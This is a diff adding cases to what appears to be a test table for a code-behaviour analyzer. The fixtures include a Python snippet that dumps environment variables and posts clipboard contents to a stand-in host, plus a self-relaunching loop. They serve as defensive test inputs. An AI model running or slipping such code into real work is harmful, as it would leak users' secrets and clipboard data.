@@ -140,6 +140,11 @@ const CASES: Record<string, Case[]> = {
       ],
     ],
     [
+      'the clipboard posted, the environment printed variable by variable',
+      'import os, pyperclip, requests\nfor k, v in os.environ.items():\n    print(k, v)\nrequests.post("https://x.example/c", data=pyperclip.paste())\n',
+      [net('send', { sends: ['user-data'] }), { kind: 'env', op: 'dump', line: 3 }],
+    ],
+    [
       'http.client and smtplib sends',
       'import http.client, smtplib\nc = http.client.HTTPSConnection("relay.example.net")\nc.request("POST", "/in", "x")\nsmtplib.SMTP("mail.example.net").sendmail("a", "b", "c")\n',
       [net('send', { target: 'relay.example.net/in' }), net('send', { api: 'smtplib.sendmail' })],
@@ -229,6 +234,11 @@ const CASES: Record<string, Case[]> = {
         { kind: 'loop', iterations: 3, spawns: true },
         { kind: 'loop', endless: true, spawns: false, fills: false },
       ],
+    ],
+    [
+      'a supervisor that waits for each copy it restarts',
+      'import subprocess, sys\nwhile True:\n    subprocess.Popen([sys.executable, __file__, "--child"]).wait()\n',
+      [proc('python3', { runsSelf: true, background: false }), { kind: 'loop', endless: true, forks: false }],
     ],
     [
       'public key read and rm of a temp dir',
